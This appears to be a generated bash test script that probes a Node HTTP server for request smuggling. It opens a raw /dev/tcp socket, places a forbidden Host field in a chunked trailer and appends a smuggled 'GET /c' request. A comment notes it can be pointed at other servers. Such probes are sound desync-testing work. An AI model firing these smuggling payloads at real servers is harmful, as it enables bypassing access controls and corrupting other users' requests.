#!/bin/bash
# desync/trailer-field-prohibited/smuggled-request via header.name-case+stream.concatenate+stream.split against node
# HOST=… PORT=… aim it at another server (the bytes keep the original Host or :authority).
HOST=${HOST:-127.0.0.1}
PORT=${PORT:-58937}
# A server that closes early makes a later write fail; the answer is still read.
trap '' PIPE
exec 3<>"/dev/tcp/$HOST/$PORT" || exit 1
timeout 2.2 cat <&3 | xxd &
printf 'POST / H' >&3
sleep 0.1
printf 'TTP/1.1\r\nhost:127.0.0.1:58937\r\nTransfer-Encoding:chunked\r\n\r\n0\r\nHost: \r\n' >&3
sleep 0.1
printf '\r\nGET /c\r\n\r\n' >&3
wait
